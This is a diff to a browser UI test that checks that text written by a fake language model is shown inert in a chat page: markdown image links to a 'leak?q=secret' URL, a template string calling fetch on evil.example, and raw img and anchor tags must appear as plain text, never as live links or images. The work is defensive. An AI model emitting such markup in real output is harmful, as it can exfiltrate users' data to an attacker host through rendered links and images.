@@ -301,9 +301,8 @@ def test_nothing_a_language_model_writes_is_fetched_or_followed(writer: FakeBot,
     page = visitor.page
     writer.flowing.clear()
     begin(visitor, "When was the bridge opened?")
-    expect(page.locator("#live .text")).to_contain_text(
-        "![x](http://127.0.0.1:1/leak?q=secret) [click](http:"
-    )
+    expect(page.locator("#live .text")).to_contain_text("${fetch('http://evil.example')} {{value}}")
+    expect(page.locator("#live .text")).not_to_contain_text("leak?q=secret")
     expect(page.locator("#live").locator("a, img")).to_have_count(0)
     writer.flowing.set()
     expect(page.locator("#conversation .text")).to_contain_text("<img src=http://evil.example/x> <a href=")
